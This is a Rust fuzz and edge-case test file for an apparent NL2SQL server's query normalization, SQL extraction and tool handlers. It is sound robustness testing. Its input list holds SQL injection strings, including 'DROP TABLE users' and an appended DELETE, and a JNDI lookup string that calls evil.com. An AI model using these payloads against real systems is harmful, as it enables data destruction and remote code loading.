//! Randomized and edge-case input tests.
//!
//! Query normalization must be idempotent for every dialect, SQL extraction
//! must never panic, and the tool handlers must turn hostile input into
//! errors rather than panics.

use async_trait::async_trait;
use db_nl2sql_server::db::ConnectionManager;
use db_nl2sql_server::llm::{ChatClient, ChatError};
use db_nl2sql_server::models::{CatalogFilters, Conversation, DatabaseType, NameSet};
use db_nl2sql_server::orchestrator::extract_sql;
use db_nl2sql_server::tools::schema::{DescribeSchemaInput, ListTablesInput, SchemaToolHandler};
use db_nl2sql_server::tools::{AskInput, AskSettings, AskToolHandler};
use rand::Rng;
use rand::distributions::Alphanumeric;
use rand::seq::SliceRandom;
use std::sync::Arc;
use tokio_util::sync::CancellationToken;

const DIALECTS: [DatabaseType; 4] = [
    DatabaseType::PostgreSQL,
    DatabaseType::MySQL,
    DatabaseType::SQLite,
    DatabaseType::SqlServer,
];

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "üöÄ".repeat(100),
        "'OR 1=1--".to_string(),
        "'; DROP TABLE users--".to_string(),
        "```".to_string(),
        "```sql\n```".to_string(),
        "```sql\nSELECT 'unterminated".to_string(),
        "SELECT [unclosed FROM t; SELECT 2".to_string(),
        "SELECT \"a;b\" FROM t; DELETE FROM t".to_string(),
        "LIMIT 5".to_string(),
        "SELECT TOP".to_string(),
        "SELECT TOP (".to_string(),
        "a".repeat(10000),
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "\x00\x01\x02".to_string(),
    ]
}

fn random_case(word: &str, rng: &mut impl Rng) -> String {
    word.chars()
        .map(|c| {
            if rng.gen_bool(0.5) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

/// A query assembled from SELECT/TOP/LIMIT fragments with random casing,
/// spacing and trailing semicolons.
fn random_query(rng: &mut impl Rng) -> String {
    let heads = ["select", "select distinct", "select all", "with x as (select 1 as a) select"];
    let tops = ["", "top 5", "top (3)", "top 10 percent", "top 2 with ties"];
    let bodies = [
        "*",
        "id, total",
        "count(*) as n",
        "name",
        "'a;b' as s",
        "[limit]",
    ];
    let tails = [
        "from orders",
        "from sales.orders where total > 10",
        "from customers order by name",
        "from t; select 2",
        "from x",
    ];
    let limits = ["", "limit 7", "limit 3 offset 2", "limit 1, 5", "limit 4 limit 2"];

    let spaces = [" ", "  ", "\n", "\t "];
    let mut parts = vec![
        random_case(heads.choose(rng).copied().unwrap_or_default(), rng),
        random_case(tops.choose(rng).copied().unwrap_or_default(), rng),
        bodies.choose(rng).copied().unwrap_or_default().to_string(),
        random_case(tails.choose(rng).copied().unwrap_or_default(), rng),
        random_case(limits.choose(rng).copied().unwrap_or_default(), rng),
    ];
    parts.retain(|p| !p.is_empty());

    let mut sql = String::new();
    for part in parts {
        if !sql.is_empty() {
            sql.push_str(spaces.choose(rng).copied().unwrap_or(" "));
        }
        sql.push_str(&part);
    }
    for _ in 0..rng.gen_range(0..3) {
        sql.push_str([";", " ;", "\n"].choose(rng).copied().unwrap_or(";"));
    }
    sql
}

#[test]
fn fuzz_normalize_query_is_idempotent() {
    let mut rng = rand::thread_rng();
    for _ in 0..2000 {
        let sql = random_query(&mut rng);
        for dialect in DIALECTS {
            let once = dialect.normalize_query(&sql);
            let twice = dialect.normalize_query(&once);
            assert_eq!(once, twice, "{dialect:?} not idempotent for {sql:?}");
            assert!(!once.ends_with(';'), "{dialect:?} kept a semicolon: {once:?}");
        }
    }
}

#[test]
fn fuzz_normalize_query_edge_cases() {
    for sql in edge_case_strings() {
        for dialect in DIALECTS {
            let once = dialect.normalize_query(&sql);
            assert_eq!(once, dialect.normalize_query(&once));
        }
    }
}

#[test]
fn fuzz_extract_sql_never_panics() {
    let mut rng = rand::thread_rng();
    let mut inputs = edge_case_strings();
    for _ in 0..500 {
        let mut text = random_string(rng.gen_range(0..80));
        if rng.gen_bool(0.5) {
            text = format!("```sql\n{}\n```", random_query(&mut rng));
        } else if rng.gen_bool(0.5) {
            text = format!("Here you go: {} {}", random_query(&mut rng), text);
        }
        inputs.push(text);
    }

    for input in inputs {
        if let Some(sql) = extract_sql(&input) {
            assert!(!sql.trim().is_empty(), "empty statement from {input:?}");
        }
    }
}

#[test]
fn fuzz_name_filters() {
    for name in edge_case_strings() {
        let set = NameSet::new([name.as_str()]);
        let filters = CatalogFilters::new(&[name.as_str()], &[name.as_str()], &[name.as_str()]);
        assert_eq!(set.is_empty(), filters.included_tables.is_empty());
    }
}

struct RefusingClient;

#[async_trait]
impl ChatClient for RefusingClient {
    async fn complete(&self, _conversation: &Conversation) -> Result<String, ChatError> {
        Err(ChatError::EmptyCompletion)
    }
}

#[tokio::test]
async fn fuzz_tool_connection_ids() {
    let manager = Arc::new(ConnectionManager::default());
    let schema = SchemaToolHandler::new(manager.clone(), Arc::new(CatalogFilters::default()));
    let ask = AskToolHandler::new(
        manager,
        Arc::new(RefusingClient),
        Arc::new(AskSettings::default()),
    );

    for connection_id in edge_case_strings() {
        assert!(
            schema
                .list_tables(ListTablesInput {
                    connection_id: connection_id.clone(),
                })
                .await
                .is_err()
        );
        assert!(
            schema
                .describe_schema(DescribeSchemaInput {
                    connection_id: connection_id.clone(),
                })
                .await
                .is_err()
        );
        assert!(
            ask.ask(
                AskInput {
                    connection_id,
                    question: random_string(20),
                    max_retries: Some(u32::MAX),
                    format: None,
                },
                CancellationToken::new(),
            )
            .await
            .is_err()
        );
    }
}
